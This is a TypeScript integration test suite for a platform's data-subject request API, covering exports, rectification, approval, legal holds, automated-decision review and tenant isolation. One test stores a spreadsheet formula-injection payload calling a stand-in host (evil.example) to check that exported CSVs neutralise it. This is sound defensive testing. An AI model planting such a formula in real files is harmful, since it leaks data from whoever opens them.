// Data-subject requests end to end over the API: access and portability exports, rectification,
// manual approval, extension and refusal, and the review of automated decisions.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { strFromU8, unzipSync } from 'fflate';
import { startTestPlatform, type TestPlatform } from '../../../test/harness.ts';
import { send, waitFor, waitForStatus } from '../../../test/messages.ts';

describe('data-subject requests', () => {
  let t: TestPlatform;
  let account: string;
  let key: string;
  const admin = () => t.boot.adminApiKey;
  const done = (id: string) =>
    waitFor(async () => {
      const r = (await t.api.get(`/v1/privacy/requests/${id}`, { key })).body;
      return r.status === 'completed' || r.status === 'rejected' ? r : undefined;
    }, `request ${id} to finish`);
  const file = (type: string, subject: object, extra: object = {}) =>
    t.api.post('/v1/privacy/requests', { key, body: { type, subject, ...extra } });

  before(async () => {
    t = await startTestPlatform();
    account = (await t.api.post('/v1/admin/accounts', { key: admin(), body: { name: 'Controller', status: 'active' } }))
      .body.id;
    // Fraud rules stay on (enforce): the review of automated decisions needs some.
    key = (
      await t.api.post(`/v1/admin/accounts/${account}/api-keys`, {
        key: admin(),
        body: {
          name: 'dpo',
          scopes: ['messages:write', 'messages:read', 'contacts:read', 'contacts:write', 'privacy:manage'],
        },
      })
    ).body.secret;
  });
  after(() => t.close());

  it('exports everything held on a person found by email, as JSON and CSV, downloadable until it expires', async () => {
    const phone = '+4915133330001';
    const contact = (
      await t.api.post('/v1/contacts', {
        key,
        body: { phone, name: 'Ada "Countess" Lovelace', email: 'ada@example.com', attributes: { city: 'London, UK' } },
      })
    ).body;
    await t.api.post(`/v1/contacts/${contact.id}/consents`, {
      key,
      body: { channel: 'sms', purpose: 'marketing', action: 'granted', source: 'form', evidence: 'newsletter box' },
    });
    const sent = await send(t, key, { to: phone, body: 'Your analytical engine is ready' });
    await waitForStatus(t, key, sent.id, ['delivered']);

    const created = await file('access', { email: 'ADA@example.com' }, { note: 'asked by letter of 3 Nov' });
    assert.equal(created.status, 201, JSON.stringify(created.body));
    assert.equal(created.body.status, 'received');
    const received = new Date(created.body.receivedAt);
    const due = new Date(created.body.dueAt);
    assert.equal(
      due.getUTCDate(),
      Math.min(
        received.getUTCDate(),
        new Date(Date.UTC(received.getUTCFullYear(), received.getUTCMonth() + 2, 0)).getUTCDate(),
      ),
    );
    assert.equal((due.getUTCMonth() - received.getUTCMonth() + 12) % 12, 1, 'due one month after receipt');

    const finished = await done(created.body.id);
    assert.equal(finished.status, 'completed', JSON.stringify(finished));
    assert.deepEqual(finished.result.exported, {
      contact: 1,
      consents: 1,
      messages: 1,
      events: finished.result.exported.events,
      usage: 1,
    });
    assert.ok(finished.export.url);
    const download = await fetch(t.url + finished.export.url, { headers: { authorization: `Bearer ${key}` } });
    assert.equal(download.status, 200);
    assert.equal(download.headers.get('content-type'), 'application/zip');
    const files = unzipSync(new Uint8Array(await download.arrayBuffer()));
    assert.deepEqual(Object.keys(files).sort(), [
      'consents.csv',
      'contact.csv',
      'export.json',
      'message_events.csv',
      'messages.csv',
      'restrictions.csv',
      'suppressions.csv',
      'usage.csv',
    ]);
    const json = JSON.parse(strFromU8(files['export.json']!));
    assert.equal(json.contact.email, 'ada@example.com');
    assert.equal(json.messages[0].body, 'Your analytical engine is ready');
    assert.equal(json.consents[0].evidence, 'newsletter box');
    const contactCsv = strFromU8(files['contact.csv']!);
    assert.match(contactCsv, /"Ada ""Countess"" Lovelace"/, 'CSV quotes are escaped');
    assert.match(strFromU8(files['messages.csv']!), /delivered/);

    const types = await t.platform.ctx.sql<
      { type: string }[]
    >`select type from events where account_id = ${account} and object_id = ${created.body.id} order by id`;
    assert.deepEqual(
      types.map((e) => e.type),
      ['dsr.received', 'dsr.in_progress', 'dsr.completed'],
    );
    // The zip is stored sealed, and expires.
    const [stored] = await t.platform.ctx.sql<
      { expiresAt: Date }[]
    >`select expires_at as "expiresAt" from files where account_id = ${account} and purpose = 'export'`;
    assert.ok(stored!.expiresAt > new Date());
    const [chunk] = await t.platform.ctx.sql<
      { data: Buffer }[]
    >`select c.data from file_chunks c join files f on f.id = c.file_id where f.account_id = ${account} and f.purpose = 'export'`;
    assert.ok(!chunk!.data.includes(Buffer.from('export.json')), 'the zip is encrypted at rest');

    const portable = await done((await file('portability', { contactId: contact.id })).body.id);
    assert.equal(portable.status, 'completed');
  });

  it('guards spreadsheet formulas in the export CSVs and leaves phone numbers as they are', async () => {
    const phone = '+4915112345678';
    const name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    await t.api.post('/v1/contacts', { key, body: { phone, name, tags: ['@risk'] } });
    await send(t, key, { to: phone, body: '-5 points, see +4915112345678' });
    const finished = await done((await file('access', { phone })).body.id);
    const download = await fetch(t.url + finished.export.url, { headers: { authorization: `Bearer ${key}` } });
    const files = unzipSync(new Uint8Array(await download.arrayBuffer()));
    const contactCsv = strFromU8(files['contact.csv']!);
    assert.ok(contactCsv.includes(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",`), contactCsv);
    assert.ok(contactCsv.includes(`,${phone},`), 'an E.164 number is no formula and stays importable');
    assert.ok(contactCsv.includes(`"'@risk"`), contactCsv);
    assert.match(strFromU8(files['messages.csv']!), /,"'-5 points, see \+4915112345678",/);
    assert.equal(JSON.parse(strFromU8(files['export.json']!)).contact.name, name, 'JSON holds the value as it is');
  });

  it('rectifies a contact, audited without the values', async () => {
    const contact = (await t.api.post('/v1/contacts', { key, body: { phone: '+4915133330002', name: 'Grace Hoper' } }))
      .body;
    const r = await done(
      (await file('rectification', { phone: '+4915133330002' }, { changes: { name: 'Grace Hopper' } })).body.id,
    );
    assert.equal(r.status, 'completed');
    assert.deepEqual(r.result.corrected, ['name']);
    assert.equal((await t.api.get(`/v1/contacts/${contact.id}`, { key })).body.name, 'Grace Hopper');
    const audit = await t.platform.ctx.sql<
      { payload: string }[]
    >`select payload from audit_log where account_id = ${account} and action = 'contact.updated' and target_id = ${contact.id}`;
    assert.equal(audit.length, 1);
    assert.ok(!audit[0]!.payload.includes('Hopper'));
    const unknown = await done(
      (await file('rectification', { phone: '+4915133339999' }, { changes: { name: 'X' } })).body.id,
    );
    assert.equal(unknown.status, 'rejected');
    assert.match(unknown.rejectionReason, /no contact/);
  });

  it('validates requests and names the field', async () => {
    const missing = await file('rectification', { phone: '+4915133330002' });
    assert.equal(missing.status, 422);
    assert.equal(missing.body.errors[0].pointer, '/changes');
    const two = await file('access', { phone: '+4915133330002', email: 'a@example.com' });
    assert.equal(two.status, 422);
    const badPhone = await file('access', { phone: '0151' });
    assert.equal(badPhone.body.errors[0].pointer, '/subject/phone');
    const badType = await file('forget_me', { phone: '+4915133330002' });
    assert.equal(badType.body.errors[0].pointer, '/type');
    const noContact = await file('access', { contactId: 'ctc_01jzzzzzzzzzzzzzzzzzzzzzzz' });
    assert.equal(noContact.body.errors[0].pointer, '/subject/contactId');
  });

  it('waits for approval where the account wants it, extends once, and refuses with a reason', async () => {
    await t.api.request('PUT', '/v1/privacy/settings', { key, body: { manualApproval: true } });
    try {
      const waiting = (await file('access', { phone: '+4915133330001' })).body;
      await new Promise((r) => setTimeout(r, 1500));
      assert.equal(
        (await t.api.get(`/v1/privacy/requests/${waiting.id}`, { key })).body.status,
        'received',
        'nothing runs before approval',
      );
      const extended = await t.api.post(`/v1/privacy/requests/${waiting.id}/extend`, {
        key,
        body: { reason: 'archive tapes must be read' },
      });
      assert.equal(extended.status, 200);
      assert.equal(
        (new Date(extended.body.dueAt).getUTCMonth() - new Date(waiting.receivedAt).getUTCMonth() + 12) % 12,
        3,
      );
      assert.equal(
        (await t.api.post(`/v1/privacy/requests/${waiting.id}/extend`, { key, body: { reason: 'again' } })).status,
        409,
      );
      const noted = await t.api.patch(`/v1/privacy/requests/${waiting.id}`, {
        key,
        body: { addNote: 'identity checked by call-back' },
      });
      assert.equal(noted.body.notes[0].text, 'identity checked by call-back');
      assert.equal(
        (await t.api.patch(`/v1/privacy/requests/${waiting.id}`, { key, body: { assignee: 'usr_nobody' } })).body
          .errors[0].pointer,
        '/assignee',
      );
      assert.equal((await t.api.post(`/v1/privacy/requests/${waiting.id}/approve`, { key, body: {} })).status, 200);
      assert.equal((await done(waiting.id)).status, 'completed');

      const refused = (await file('erasure', { phone: '+4915133330001' })).body;
      const rejected = await t.api.post(`/v1/privacy/requests/${refused.id}/reject`, {
        key,
        body: { reason: 'identity could not be verified' },
      });
      assert.equal(rejected.body.status, 'rejected');
      assert.equal(rejected.body.rejectionReason, 'identity could not be verified');
      assert.equal((await t.api.post(`/v1/privacy/requests/${refused.id}/approve`, { key, body: {} })).status, 409);
      // Nothing was erased.
      assert.equal((await t.api.get('/v1/contacts?phone=%2B4915133330001', { key })).body.data.length, 1);
    } finally {
      await t.api.request('PUT', '/v1/privacy/settings', { key, body: { manualApproval: false } });
    }
  });

  it('lists the automated decisions about a person and lets a human confirm or overturn each', async () => {
    const phone = '+4915122000001';
    const ranges = await t.api.request('PUT', '/v1/admin/fraud/ranges', {
      key: admin(),
      body: { csv: 'prefix,action,label\n+4915122,review,test range under watch\n' },
    });
    assert.equal(ranges.status, 200);
    await new Promise((r) => setTimeout(r, 5500)); // range lists apply within 5 s (a per-process cache)
    const held = await send(t, key, { to: phone, body: 'Your code is 4711', purpose: 'otp' });
    assert.equal(held.status, 'held', JSON.stringify(held.fraud));
    const noConsent = await send(t, key, { to: phone, body: 'Big sale', purpose: 'marketing' });
    assert.equal(noConsent.error.code, 'no_consent');

    const filed = (await file('automated_decision_review', { phone })).body;
    // in_progress twice: while listing (no result yet), then waiting for a person (result set).
    const request = await waitFor(async () => {
      const r = (await t.api.get(`/v1/privacy/requests/${filed.id}`, { key })).body;
      return r.status === 'in_progress' && r.result ? r : undefined;
    }, 'the decisions to be listed');
    assert.equal(request.result.decisions, 2);
    const decisions = (await t.api.get(`/v1/privacy/requests/${request.id}/decisions`, { key })).body.data;
    assert.deepEqual(
      decisions.map((d: { kind: string }) => d.kind),
      ['fraud_hold', 'consent_rejection'],
    );
    assert.match(decisions[0].explanation, /test range under watch/);

    const wrong = await t.api.post(`/v1/privacy/requests/${request.id}/reviews`, {
      key,
      body: { messageId: 'msg_01jzzzzzzzzzzzzzzzzzzzzzzz', outcome: 'confirmed' },
    });
    assert.equal(wrong.body.errors[0].pointer, '/messageId');
    const overturned = await t.api.post(`/v1/privacy/requests/${request.id}/reviews`, {
      key,
      body: { messageId: held.id, outcome: 'overturned', note: 'a real customer' },
    });
    assert.equal(overturned.body.status, 'in_progress');
    await waitForStatus(t, key, held.id, ['delivered']);
    assert.equal(
      (
        await t.api.post(`/v1/privacy/requests/${request.id}/reviews`, {
          key,
          body: { messageId: held.id, outcome: 'confirmed' },
        })
      ).status,
      409,
    );
    const last = await t.api.post(`/v1/privacy/requests/${request.id}/reviews`, {
      key,
      body: { messageId: noConsent.id, outcome: 'confirmed' },
    });
    assert.equal(last.body.status, 'completed');
    await t.api.request('PUT', '/v1/admin/fraud/ranges', { key: admin(), body: { csv: 'prefix,action,label\n' } });
  });

  it('refuses an erasure while a legal hold covers the person, and erases once it is released', async () => {
    const phone = '+4915133330044';
    await t.api.post('/v1/contacts', { key, body: { phone, name: 'Held Person' } });
    const hold = await t.api.post('/v1/privacy/legal-holds', {
      key,
      body: { subject: { phone }, reason: 'litigation 2026-17' },
    });
    assert.equal(hold.status, 201, JSON.stringify(hold.body));
    const refused = await done((await file('erasure', { phone })).body.id);
    assert.equal(refused.status, 'rejected');
    assert.match(refused.rejectionReason, /legal hold/);
    assert.equal(
      (await t.api.get(`/v1/contacts?phone=${encodeURIComponent(phone)}`, { key })).body.data.length,
      1,
      'nothing erased',
    );
    assert.equal((await t.api.delete(`/v1/privacy/legal-holds/${hold.body.id}`, { key })).status, 200);
    assert.equal((await done((await file('erasure', { phone })).body.id)).status, 'completed');
    assert.equal((await t.api.get(`/v1/contacts?phone=${encodeURIComponent(phone)}`, { key })).body.data.length, 0);
  });

  it('keeps tenants apart', async () => {
    const mine = (await file('access', { phone: '+4915133330001' })).body;
    const otherAccount = (
      await t.api.post('/v1/admin/accounts', { key: admin(), body: { name: 'Stranger', status: 'active' } })
    ).body.id;
    const stranger = (
      await t.api.post(`/v1/admin/accounts/${otherAccount}/api-keys`, {
        key: admin(),
        body: { name: 'x', scopes: ['privacy:manage'] },
      })
    ).body.secret;
    assert.equal((await t.api.get(`/v1/privacy/requests/${mine.id}`, { key: stranger })).status, 404);
    assert.equal((await t.api.get(`/v1/privacy/requests/${mine.id}/export`, { key: stranger })).status, 404);
    assert.equal((await t.api.get('/v1/privacy/requests', { key: stranger })).body.data.length, 0);
  });
});
